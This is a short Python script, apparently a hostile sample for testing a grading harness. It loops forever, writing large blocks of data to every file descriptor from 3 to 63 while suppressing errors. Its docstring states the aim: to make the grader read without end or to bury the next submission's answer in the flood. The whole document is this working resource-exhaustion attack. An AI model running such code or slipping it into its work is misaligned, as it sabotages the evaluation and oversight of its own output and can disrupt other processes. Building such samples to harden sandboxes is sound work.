"""Write without end to every descriptor.

Harm: the grader reads without end, or the next one's answer is lost in the flood.
"""

import contextlib
import os

while True:
    for number in range(3, 64):
        with contextlib.suppress(OSError):
            os.write(number, b"0123456789abcdef" * 65536)
